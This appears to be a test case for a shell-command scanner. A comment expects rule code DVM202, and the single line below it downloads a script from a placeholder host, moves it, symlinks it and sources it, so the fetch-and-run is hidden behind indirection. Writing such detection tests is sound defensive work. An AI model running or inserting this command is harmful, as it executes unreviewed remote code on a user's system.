# expect: DVM202
curl -s https://x.example.org/i.sh >/tmp/a; mv /tmp/a /tmp/b; ln -s /tmp/b /tmp/c; . /tmp/c
